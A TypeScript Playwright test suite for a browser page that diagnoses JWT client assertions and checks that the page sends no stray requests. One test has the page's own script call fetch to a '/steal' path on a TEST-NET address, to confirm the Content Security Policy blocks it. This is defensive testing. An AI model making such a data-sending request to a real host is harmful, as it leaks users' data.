/**
 * The browser doctor page in a real browser: headless Chromium pastes assertions into the built
 * page (served by `npm start`'s `/doctor` route, and opened from file://) and reads what it shows.
 * Every request the browser makes is recorded: the page may make none but the JWKS fetch asked for.
 */
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { b64url, decodeB64url } from '../../lambda/platform/jws.js';
import { PLATFORM_ERRORS, URN } from '../../lambda/platform/rules.js';
import { json } from '../../lambda/proxy/handler.js';
import { type LocalServer, serveLocally } from '../../lambda/proxy/local-server.js';
import { buildDoctorPage } from '../../web/doctor/build.js';
import { DOCTOR_PATH, withDoctorPage } from '../../web/doctor/serve.js';
import { browserSkipReason, type Chromium, launchChromium } from './chromium.js';
import { API_KEY, AT, assertion, dashedAssertion, EN_DASH, JWKS, KID, NOW_S } from './fixtures.js';

const skip = browserSkipReason();
// Said out loud: the skipped suite's name alone does not show in the default reporter.
if (skip) process.stderr.write(`${skip}\n`);

describe.skipIf(skip !== undefined)(skip ?? 'the doctor page in headless Chromium', () => {
  let browser: Chromium;
  let server: LocalServer;
  let dir: string;
  let fileUrl: string;
  const served: string[] = [];
  let requests: string[] = [];
  /** What the page logged: a policy violation or script error shows here. */
  let messages: string[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    // Recorded at the browser, and anything but the page's own server or file is refused, so a
    // stray request fails the test instead of reaching the network.
    browser.context.on('request', (request) => requests.push(request.url()));
    await browser.context.route(
      (url) => url.protocol !== 'file:' && url.host !== new URL(server.url).host,
      (route) => route.abort('blockedbyclient'),
    );
    // The proxy's /doctor route in front of a stand-in answering /jwks.json (same origin as the page).
    const jwksHandler = withDoctorPage(async (event) =>
      event.path === '/jwks.json' ? json(200, JSON.parse(JWKS)) : json(404, { error: 'not_found' }),
    );
    server = await serveLocally(async (event) => {
      served.push(`${event.httpMethod} ${event.path}`);
      return jwksHandler(event);
    });
    dir = await mkdtemp(join(tmpdir(), 'doctor-page-'));
    const file = join(dir, 'doctor.html');
    await writeFile(file, (await buildDoctorPage()).html);
    fileUrl = pathToFileURL(file).href;
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  async function open(url: string): Promise<Page> {
    requests = [];
    messages = [];
    served.length = 0;
    const page = await browser.context.newPage();
    page.on('console', (message) => messages.push(message.text()));
    page.on('pageerror', (error) => messages.push(error.message));
    await page.goto(url);
    await page.locator('html[data-ready="true"]').waitFor();
    return page;
  }

  async function diagnose(
    page: Page,
    input: { assertion: string; jwks?: string; environment?: string; apiKey?: string; at?: string },
  ): Promise<void> {
    await page.fill('#assertion', input.assertion);
    if (input.jwks !== undefined) await page.fill('#jwks', input.jwks);
    await page.selectOption('#environment', input.environment ?? 'int');
    await page.fill('#api-key', input.apiKey ?? API_KEY);
    await page.fill('#judge-at', input.at ?? AT);
    await page.click('#diagnose');
    await page.locator('#result:not([hidden])').waitFor();
  }

  const codes = (page: Page) =>
    page.locator('#findings li').evaluateAll((lis) => lis.map((li) => li.getAttribute('data-code')));

  it('opened from file://, names typographic dashes in place, predicts "Malformed JWT" and offers the verified repair only on request', async () => {
    const { good, damaged, dashOffset, hyphenOffset } = dashedAssertion();
    const page = await open(fileUrl);
    await diagnose(page, {
      assertion: `client_assertion_type=${encodeURIComponent(URN.clientAssertionType)}&client_assertion=${damaged}`,
      jwks: JWKS,
    });

    const malformed = PLATFORM_ERRORS.clientAssertionMalformed;
    await expect.poll(() => page.textContent('#verdict')).toContain('REJECT');
    expect(await page.textContent('#verdict')).toContain(
      `${malformed.status} invalid_request: Malformed JWT in client_assertion`,
    );
    expect(await page.textContent('#predicted')).toContain('HTTP 400');
    expect(await codes(page)).toEqual(
      expect.arrayContaining(['CHAR_TYPOGRAPHIC_DASH', 'REPAIR_VERIFIED', 'INPUT_FORM_BODY']),
    );
    const dash = page.locator('#findings li[data-code="CHAR_TYPOGRAPHIC_DASH"]').first();
    expect(await dash.textContent()).toContain(`U+2013 EN DASH at offset ${dashOffset}`);
    expect(await dash.locator('.fix').textContent()).toMatch(/^Fix: \S/);

    // Both characters marked in place, in the signature segment, with offset and code point.
    const marks = page.locator('#highlight .seg-signature mark.bad');
    expect(await marks.count()).toBe(2);
    expect(await marks.nth(0).textContent()).toBe(EN_DASH);
    expect(await marks.nth(0).getAttribute('data-offset')).toBe(String(dashOffset));
    expect(await marks.nth(0).getAttribute('title')).toBe(`signature offset ${dashOffset}: U+2013 EN DASH`);
    expect(await marks.nth(1).getAttribute('title')).toBe(`signature offset ${hyphenOffset}: U+2010 HYPHEN`);
    expect(await page.textContent('#offending')).toContain(`signature offset ${dashOffset}: U+2013 EN DASH`);

    expect(JSON.parse((await page.textContent('#decoded-header'))!)).toEqual({
      alg: 'RS512',
      typ: 'JWT',
      kid: KID,
    });
    expect(JSON.parse((await page.textContent('#decoded-claims'))!)).toMatchObject({
      iss: API_KEY,
      exp: NOW_S + 240,
    });

    expect(await page.textContent('#repair-summary')).toContain(
      `Verified: with 2 change(s), the signature verifies with kid "${KID}"`,
    );
    expect(await page.textContent('#repair-changes')).toContain(
      `signature offset ${dashOffset}: U+2013 "${EN_DASH}" → "--"`,
    );
    expect(await page.isVisible('#repaired')).toBe(false);
    expect(await page.inputValue('#repaired')).toBe('');
    await page.click('#show-repaired');
    expect(await page.inputValue('#repaired')).toBe(good);
    await page.click('#show-repaired');
    expect(await page.isVisible('#repaired')).toBe(false);

    expect(requests).toEqual([fileUrl]);
    expect(messages).toEqual([]);
    await page.close();
  });

  it('predicts the expiry rejection for an expired assertion', async () => {
    const page = await open(fileUrl);
    await diagnose(page, { assertion: assertion({ exp: NOW_S - 60 }), jwks: JWKS });
    expect(await page.textContent('#verdict')).toContain(PLATFORM_ERRORS.assertionExpired.error_description);
    expect(await page.textContent('#predicted')).toContain('HTTP 400');
    expect((await codes(page))[0]).toBe('EXP_EXPIRED');
    expect(await page.textContent('#decoded-note')).toContain(
      `exp = ${new Date((NOW_S - 60) * 1000).toISOString()}`,
    );
    expect(await page.isHidden('#highlight-section')).toBe(true);
    expect(await page.isHidden('#repair-section')).toBe(true);
    expect(requests).toEqual([fileUrl]);
    await page.close();
  });

  it('names the key that verifies when the kid is wrong', async () => {
    const page = await open(fileUrl);
    await diagnose(page, { assertion: assertion({}, 'wrong-kid'), jwks: JWKS });
    const unknown = PLATFORM_ERRORS.assertionKidUnknown;
    expect(await page.textContent('#verdict')).toContain(
      `${unknown.status} invalid_request: ${unknown.error_description}`,
    );
    expect(await codes(page)).toEqual(expect.arrayContaining(['KID_NOT_IN_JWKS', 'SIGNATURE_OTHER_KEY']));
    expect(await page.textContent('#findings li[data-code="SIGNATURE_OTHER_KEY"]')).toContain(`kid "${KID}"`);
    expect(requests).toEqual([fileUrl]);
    await page.close();
  });

  it('says the signature went unchecked when the browser refuses a key Node accepts', async () => {
    // RFC 7518 wants "n" without leading zero octets; Node imports such a key, Chromium refuses it.
    const jwks = JSON.parse(JWKS) as { keys: { n: string }[] };
    const n = jwks.keys[0]!.n;
    jwks.keys[0]!.n = b64url(Uint8Array.of(0, ...decodeB64url(n)!));
    const page = await open(fileUrl);
    await diagnose(page, { assertion: assertion(), jwks: JSON.stringify(jwks) });
    expect(await page.textContent('#findings li[data-code="JWKS_KEY_UNUSABLE"]')).toContain(
      `key #0 (kid "${KID}") could not be imported by this runtime's WebCrypto.`,
    );
    expect(await codes(page)).toContain('SIGNATURE_NOT_CHECKED');
    expect(await codes(page)).not.toContain('SIGNATURE_INVALID');
    expect(await page.textContent('#verdict')).toMatch(/^ACCEPT \(as far as checked\)/);
    await page.close();
  });

  it('served at /doctor, fetches the JWKS only when asked, then accepts a good assertion', async () => {
    const page = await open(`${server.url}${DOCTOR_PATH}`);
    const jwksUrl = `${server.url}/jwks.json`;
    await page.fill('#jwks-url', jwksUrl);
    // Diagnosing without pressing Fetch uses no JWKS and makes no request.
    await diagnose(page, { assertion: assertion() });
    expect(await codes(page)).toContain('SIGNATURE_NOT_CHECKED');
    expect(served).toEqual([`GET ${DOCTOR_PATH}`]);

    await page.click('#fetch-jwks');
    await expect.poll(() => page.textContent('#jwks-status')).toContain('(HTTP 200)');
    await page.click('#diagnose');
    await expect
      .poll(() => page.textContent('#verdict'))
      .toBe('ACCEPT: the platform would accept this assertion');
    expect(await page.textContent('#predicted')).toContain('HTTP 200');
    expect(await page.locator('#findings li[data-severity="error"]').count()).toBe(0);
    expect(await codes(page)).toContain('SIGNATURE_VERIFIED');

    expect(served).toEqual([`GET ${DOCTOR_PATH}`, 'GET /jwks.json']);
    expect(requests).toEqual([`${server.url}${DOCTOR_PATH}`, jwksUrl]);
    expect(messages).toEqual([]);
    await page.close();
  });

  it('is forbidden by its security policy from any other request, even one its own script makes', async () => {
    const page = await open(fileUrl);
    // TEST-NET-1 (RFC 5737): plain http off this machine is outside connect-src.
    const outcome = await page.evaluate(
      "fetch('http://192.0.2.1/steal').then(() => 'fetched', (error) => error.name)",
    );
    expect(outcome).toBe('TypeError');
    expect(messages.join('\n')).toMatch(
      /violates the following Content Security Policy directive: "connect-src/,
    );
    expect(requests).toEqual([fileUrl]);
    // The page's policy is what the build says it is.
    expect(await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content')).toMatch(
      /^default-src 'none'; script-src 'sha256-[^']+'; style-src 'sha256-[^']+'; connect-src https: http:\/\/127\.0\.0\.1:\* http:\/\/localhost:\*; img-src data:; base-uri 'none'; form-action 'none'$/,
    );
    await page.close();
  });
});
